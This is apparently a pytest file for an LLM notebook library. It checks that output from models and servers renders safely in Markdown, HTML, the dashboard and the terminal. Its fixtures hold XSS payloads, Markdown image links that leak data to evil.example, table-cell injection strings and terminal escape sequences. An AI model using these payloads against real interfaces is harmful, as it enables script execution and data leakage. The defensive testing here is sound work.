"""Model and server output is hostile on every rendering path.

Each display the library builds (Markdown cards and tables, HTML reprs, the
dashboard's columns, the demo report, terminal text) is fed names, texts and
errors a model or a server could send, and must show them as text: no tag,
handler, ``javascript:`` URL or remote image of their own, no table cell
they open, no escape sequence that reaches a terminal.
"""

from __future__ import annotations

import re
from datetime import datetime, timezone
from typing import Any

import pytest

from notebook_llm.core.types import Completion, ToolCall, Usage
from tests.support.html_audit import SAFE_TAGS, audit, frontend_render, visible_text

pytest.importorskip("markdown_it")
pytest.importorskip("nh3")

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "x` <img src=x onerror=alert(1)> `y",
    "``<svg onload=alert(1)>``",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![x](//evil.example/a.png)",
    "![x][r]\n\n[r]: https://evil.example/a.png",
    "a | b | <img src=x onerror=alert(1)>",
    "line\n\n<script>alert(1)</script>",
]
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x1b]8;;https://evil.example\x1b\\link\x9b31m\rover"


def flat(text: str) -> str:
    """*text* as the library folds it onto one line."""
    return " ".join(CONTROL.sub("", text.replace("\r", " ")).split())


def safe(html: str, *extra: str) -> None:
    """Nothing in *html* runs script or loads a remote image (``extra``: the library's own tags)."""
    found = audit(html, allowed=SAFE_TAGS | set(extra))
    assert found.problems == [], found.problems
    assert found.images == [], found.images


def table_cells(rendered: str) -> list[int]:
    """How many cells each body row of the first table has."""
    body = rendered.split("<tbody>", 1)[1]
    return [row.count("<td") for row in body.split("</tr>")[:-1]]


# -- Completion ------------------------------------------------------------------------


def test_completion_markdown_golden() -> None:
    completion = Completion(
        text="It is **sunny**.", model="openai:gpt-4o-mini", finish_reason="tool_calls",
        usage=Usage(input_tokens=12, output_tokens=5), cost_status="free",
        tool_calls=[ToolCall("c1", "get_weather", {"city": "Paris"})],
    )
    assert completion._repr_markdown_() == (
        "It is **sunny**.\n\n**Tool calls**\n\n"
        '- `get_weather({"city": "Paris"})`\n\n---\n'
        "<small>openai:gpt-4o-mini · 12 in / 5 out · free</small>"
    )


@pytest.mark.parametrize("name", HOSTILE)
def test_completion_markdown_hostile_tool_call_stays_code(name: str) -> None:
    completion = Completion(text="ok", model="offline:echo",
                            tool_calls=[ToolCall("c1", name, {"q": name, "<b>": "`"})])
    rendered = frontend_render(completion._repr_markdown_())
    safe(rendered, "small")
    code = re.findall(r"<code>(.*?)</code>", rendered, re.S)
    assert len(code) == 1 and visible_text(code[0]).startswith(flat(name) + "(")


@pytest.mark.parametrize("name", HOSTILE)
def test_completion_markdown_hostile_model_and_finish_reason(name: str) -> None:
    completion = Completion(text=name, model=name, finish_reason=name)  # type: ignore[arg-type]
    rendered = frontend_render(completion._repr_markdown_())
    safe(rendered, "small")
    footer = rendered.rsplit("<small>", 1)[1].split("</small>", 1)[0]
    assert visible_text(footer).startswith(flat(name) + " · ")


# -- LocalServers ------------------------------------------------------------------------


def test_local_servers_markdown_golden() -> None:
    from notebook_llm.providers.discovery import LocalServer, LocalServers

    servers = LocalServers([LocalServer("ollama", "http://127.0.0.1:11434/v1",
                                        ["llama3.2:1b", "qwen3"])])
    assert servers._repr_markdown_() == (
        "| server | base URL | models |\n|---|---|---|\n"
        "| Ollama | http://127.0.0.1:11434/v1 | `ollama:llama3.2:1b`, `ollama:qwen3` |"
    )


def test_local_servers_markdown_hostile_model_ids_and_labels() -> None:
    from notebook_llm.providers.discovery import LocalServer, LocalServers

    servers = LocalServers([
        LocalServer("ollama", "http://127.0.0.1:11434/v1", HOSTILE[:8]),
        LocalServer(HOSTILE[0], "http://h/<script>alert(1)</script>|x", HOSTILE[8:]),
    ])
    rendered = frontend_render(servers._repr_markdown_())
    safe(rendered)
    assert table_cells(rendered) == [3, 3]
    codes = [visible_text(c) for c in re.findall(r"<code>(.*?)</code>", rendered, re.S)]
    assert codes == [flat(f"ollama:{m}") for m in HOSTILE[:8]] + [
        flat(f"{HOSTILE[0]}:{m}") for m in HOSTILE[8:]]
    assert "http://h/<script>alert(1)</script>|x" in visible_text(rendered)


# -- Comparison and the dashboard ------------------------------------------------------


def _comparison(models: list[str], texts: list[str]) -> Any:
    from notebook_llm import Comparison

    comparison = Comparison(["<b>prompt</b>\n| x"], models, 1, None)
    for cell, text in zip(comparison.cells, texts, strict=True):
        cell.status = "done"
        cell.text = text
        cell.completion = Completion(text=text, model=cell.model, cost_status="free")
    error_cell = comparison.cells[-1]
    error_cell.status, error_cell.completion = "error", None
    error_cell.error = RuntimeError(texts[-1] + "\n| injected | row |")
    return comparison


MODELS = ["offline:echo", "<img src=x onerror=alert(1)>", "a`b|c", "![x](https://evil.example/a)"]
TEXTS = [
    "**fine** ![leak](https://evil.example/?q=secret)",
    "<script>alert(1)</script>\n\n| a | b |",
    "[x](javascript:alert(1)) ![r][r]\n\n[r]: //evil.example/a.png",
    "</textarea><svg onload=alert(1)>",
]


def test_comparison_markdown_hostile_models_and_texts() -> None:
    comparison = _comparison(MODELS, TEXTS)
    rendered = frontend_render(comparison._repr_markdown_())
    safe(rendered)
    assert table_cells(rendered) == [4, 4, 4, 4]
    shown = visible_text(rendered)
    assert all(flat(model) in shown for model in MODELS)


def test_comparison_html_hostile_models_and_texts() -> None:
    comparison = _comparison(MODELS, TEXTS)
    page = comparison._repr_html_()
    safe(page, "div", "small", "b")
    shown = visible_text(page)
    assert all(model in shown for model in MODELS)
    safe(comparison.diff(MODELS[0], MODELS[1])._repr_html_(), "div", "small", "ins")


def test_dashboard_views_hostile_models_and_texts() -> None:
    from notebook_llm.notebook._dashboard import Dashboard, TextDashboard

    comparison = _comparison(MODELS, TEXTS)
    dashboard = Dashboard(comparison, widgets=False, display=lambda *a, **k: None)
    for final in (False, True):
        page = dashboard.html(final=final)
        safe(page, "div", "span", "strong", "small", "em")
        assert all(model in visible_text(page) for model in MODELS)
    bundle = dashboard.bundle(final=True)
    safe(frontend_render(bundle["text/markdown"]))
    assert not CONTROL.search(bundle["text/plain"])
    printed: list[str] = []
    TextDashboard(_comparison(MODELS, [*TEXTS[:3], ESCAPES]), write=printed.append).finish(1.0)
    assert printed and not any(CONTROL.search(line) for line in printed)


# -- usage, logs, trackers --------------------------------------------------------------


def test_logs_and_usage_table_hostile_model_names() -> None:
    pd = pytest.importorskip("pandas")
    from notebook_llm._usage import Logs
    from notebook_llm._usage_table import UsageTable

    rows = [
        {"model": name, "time": datetime(2025, 1, 2, 3, 4, 5, tzinfo=timezone.utc),
         "input_tokens": 1, "output_tokens": 2, "cost_usd": None, "cost_status": "unpriced",
         "latency_s": 0.5, "cached": False, "error_class": "ProviderError" if i % 2 else None,
         "error_message": name + ESCAPES, "prompt": name, "response": name + ESCAPES}
        for i, name in enumerate(HOSTILE)
    ]
    logs = Logs(pd.DataFrame(rows))
    rendered = frontend_render(logs._repr_markdown_())
    safe(rendered)
    heads = re.findall(r"<strong>(.*?)</strong>", rendered, re.S)
    assert [visible_text(h).split(" · ")[0] for h in heads] == [flat(n) for n in HOSTILE][::-1]
    assert not CONTROL.search(repr(logs))

    totals = pd.DataFrame([
        {"model": name + ESCAPES, "calls": 1, "input_tokens": 1, "output_tokens": 1,
         "cost_usd": 0.0, "unpriced_calls": 0, "cached_calls": 0, "errors": 0}
        for name in HOSTILE
    ])
    table = UsageTable(totals, "model")
    safe(table._repr_html_())
    assert not CONTROL.search(repr(table))


def test_tracker_html_hostile_model_names() -> None:
    import notebook_llm as nl
    from notebook_llm import errors

    client = nl.Client(log=False)
    with nl.track(name=HOSTILE[0]) as tracker:
        for name in HOSTILE:
            # An offline model of that name does not exist: each call ends in an
            # error that the tracker records under the model string as written.
            with pytest.raises(errors.LLMError):
                client.complete("hi", model=f"offline:{name}")
    assert tracker.calls == len(HOSTILE)
    page = tracker._repr_html_()
    safe(page, "b")
    shown = visible_text(page)
    assert all(" ".join(f"offline:{name}".split()) in " ".join(shown.split()) for name in HOSTILE)


# -- embeddings and batches ------------------------------------------------------------


def test_embeddings_reprs_hostile_labels_texts_and_model(tmp_path: Any) -> None:
    np = pytest.importorskip("numpy")
    from notebook_llm.embeddings import Embeddings, collection
    from notebook_llm.store.db import Store

    emb = Embeddings(np.eye(4, 8), HOSTILE[:4], index=HOSTILE[4:8], model=HOSTILE[8])
    page = emb._repr_html_()
    safe(page, "div", "b")
    assert all(label in visible_text(page) for label in HOSTILE[4:8])
    with Store(":memory:") as store:
        page = collection(HOSTILE[0], "offline:hash", db_path=store)._repr_html_()
    safe(page, "div", "b")


def test_batch_result_reprs_hostile_models_and_reasons(tmp_path: Any) -> None:
    from notebook_llm.batches import BatchEstimate, BatchResult

    result = BatchResult("job-<script>", name=None, state="stopped", mode="concurrent",
                         models=HOSTILE, rows=1, stop_reason=HOSTILE[0],
                         db=str(tmp_path / "jobs.db"))
    safe(result._repr_html_(), "div", "b", "small")
    estimate = BatchEstimate(
        rows=1, requests=len(HOSTILE), input_tokens=1, output_tokens=1, cost_usd=None,
        by_model=[{"model": m, "requests": 1, "input_tokens": 1, "output_tokens": 1,
                   "cost_usd": None, "priced": False} for m in HOSTILE],
    )
    dry = BatchResult("job", name=None, state="dry_run", mode="concurrent", models=HOSTILE,
                      rows=1, estimate=estimate)
    page = dry._repr_html_()
    safe(page, "div", "b")
    assert all(m in visible_text(page) for m in HOSTILE)


# -- the demo ----------------------------------------------------------------------------


def test_demo_report_hostile_answer_and_model(capsys: pytest.CaptureFixture[str]) -> None:
    from notebook_llm import demo

    answer = "\n\n".join([*HOSTILE, "![leak](https://evil.example/?q=secret)"])
    completion = Completion(text=answer, model=HOSTILE[0], cost_status="free")
    page = demo._page([("Streaming <answer>", demo._completion_html(HOSTILE[1], completion))],
                      HOSTILE[2])
    safe(page, "html", "head", "meta", "title", "style", "body", "section", "small", "b")
    assert "Content-Security-Policy" in page and "img-src data:" in page
    demo._say(answer + ESCAPES)
    assert not CONTROL.search(capsys.readouterr().out.replace("\n", ""))


# -- terminal and plain text -----------------------------------------------------------


def test_terminal_view_prints_no_escape_sequences(capsys: pytest.CaptureFixture[str]) -> None:
    from notebook_llm.notebook._display import TerminalView, final_bundle, footer_bundle

    view = TerminalView()
    text = "a" + ESCAPES + " end"
    for end in range(3, len(text) + 1, 3):  # streamed in pieces that split sequences
        view.update(text[:end])
    completion = Completion(text=text, model="offline:\x1b[31mecho")
    view.finish(final_bundle(completion, "markdown"), footer_bundle(completion))
    out = capsys.readouterr().out
    assert not CONTROL.search(out.replace("\n", ""))
    assert out.count("end") == 1  # the answer once: the finish adds only what is left
    assert completion.text == text  # the data is left as it came


def test_plain_text_forms_have_no_escape_sequences() -> None:
    from notebook_llm.notebook._errors import CellError
    from notebook_llm.notebook._magics import MarkdownText, Table

    lines = CellError("server said " + ESCAPES, hint=ESCAPES)._render_traceback_()
    assert lines[0].startswith("\x1b[0;31mLLMError\x1b[0m: ")  # only the library's colour
    assert not any(CONTROL.search(line[len("\x1b[0;31mLLMError\x1b[0m"):]) for line in lines)
    assert not CONTROL.search(repr(Table(["model"], [[ESCAPES]], title=ESCAPES)))
    assert not CONTROL.search(repr(MarkdownText("", ESCAPES)))
